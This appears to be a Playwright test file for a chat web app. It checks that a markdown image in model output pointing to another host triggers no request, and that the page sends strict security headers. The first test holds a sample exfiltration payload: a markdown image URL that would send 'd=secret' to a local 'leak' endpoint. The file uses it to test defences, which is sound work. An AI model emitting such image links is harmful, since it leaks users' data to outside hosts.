import http from 'node:http';
import { test, expect } from './support/fixtures.js';
import { chatMessages, openArbor, sendPrompt } from './support/page-helpers.js';

/*
 * A markdown image in model output must not make the reader's browser call another host: the demo
 * model quotes the prompt, so `![x](http://127.0.0.1:OTHER/leak?d=secret)` comes back as assistant
 * markdown. The other host, a real server here, must see no request at all: the page shows the image
 * as a link, and the Content-Security-Policy refuses such an image even when a script adds one.
 */

test('an image from another host in an answer causes no request to that host', async ({
  page,
  arbor,
  consoleErrors,
}) => {
  const requests: string[] = [];
  const other = http.createServer((request, response) => {
    requests.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/gif' }).end();
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const address = other.address();
  const leak = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/leak`;
  try {
    await openArbor(page, arbor.url);
    await sendPrompt(page, `look ![the secret](${leak}?d=secret) here`);
    const answer = chatMessages(page, 'assistant');
    await expect(answer).toHaveText([/You said:/]);
    await expect(answer.getByRole('link', { name: 'Image: the secret' })).toHaveAttribute(
      'href',
      `${leak}?d=secret`,
    );
    await expect(page.locator(`img[src^="${leak}"]`)).toHaveCount(0);

    // The policy holds on its own: an <img> a script adds is refused before any request.
    const loaded = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const img = document.createElement('img');
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('refused');
          img.src = src;
          document.body.append(img);
        }),
      `${leak}?by=script`,
    );
    expect(loaded).toBe('refused');
    expect(requests).toEqual([]);
    // The refusal is logged as a console error, which is the point here, not a page fault.
    const expected = consoleErrors.filter((line) => line.includes('Content Security Policy'));
    expect(expected.length).toBeGreaterThan(0);
    consoleErrors.splice(
      0,
      consoleErrors.length,
      ...consoleErrors.filter((l) => !expected.includes(l)),
    );
  } finally {
    await new Promise<void>((resolve) => other.close(() => resolve()));
  }
});

test('the page sends its security headers', async ({ page, arbor }) => {
  const response = await page.goto(arbor.url);
  const csp = response?.headers()['content-security-policy'] ?? '';
  for (const directive of [
    "default-src 'self'",
    "img-src 'self' data: blob:",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "object-src 'none'",
    "base-uri 'self'",
  ]) {
    expect(csp).toContain(directive);
  }
  expect(response?.headers()['x-frame-options']).toBe('DENY');
  expect(response?.headers()['x-content-type-options']).toBe('nosniff');
});
